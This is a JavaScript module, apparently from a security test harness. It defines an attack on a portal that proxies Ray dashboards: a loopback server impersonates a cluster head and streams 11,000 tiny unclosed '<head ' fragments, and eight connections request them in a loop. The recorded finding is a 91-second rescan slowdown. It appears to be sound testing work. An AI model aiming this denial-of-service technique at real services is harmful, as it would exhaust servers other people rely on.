import { createServer } from 'node:http';
import { answerAsHead } from './hostileHead.mjs';

/** Paths of a head that the portal itself requests; pages of dashboards have other paths. */
const HEAD_API = /^\/(?:api|nodes)/;

const CONNECTIONS = 8;

/** Beginnings of tags that never end, in pieces as small as a network carries. */
const PIECE = '<head ';
const PIECES = 11_000;

/** @type {import('./Target.mjs').Attack} */
export const hostileDashboard = {
  name: "a Ray dashboard of 11,000 times '<head '",
  finding: 'searched again for every piece: 91 s',
  run: target => {
    const { namespace } = target.victim;
    const cluster = `/api/ray/namespaces/${namespace}/clusters/example-00001`;
    const loop = async () => {
      while (!target.isOver) {
        const { text } = await target.send({
          path: `${cluster}/dashboard`,
          body: '',
        });
        const path = /"path":"([^"]+)"/.exec(text)?.[1];
        if (path) await target.send({ path: `/api/ray${path}` });
      }
    };
    return Promise.all(Array.from({ length: CONNECTIONS }, loop));
  },
};

/**
 * Replaces the heads of all clusters and their dashboards, on loopback.
 *
 * @returns {Promise<string>} its URL
 */
export function serveHostileDashboard() {
  const server = createServer({ noDelay: true }, async (request, response) => {
    if (HEAD_API.test(request.url ?? '')) {
      await answerAsHead(response);
      return;
    }
    response.setHeader('content-type', 'text/html');
    response.on('error', () => undefined);
    for (let piece = 0; piece < PIECES && !response.destroyed; piece += 1) {
      // One write of the network for each.
      await new Promise(resolve => response.write(PIECE, resolve));
    }
    response.end();
  });
  return new Promise(resolve => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      const port = typeof address === 'object' ? address?.port : undefined;
      resolve(`http://127.0.0.1:${port}`);
    });
  });
}
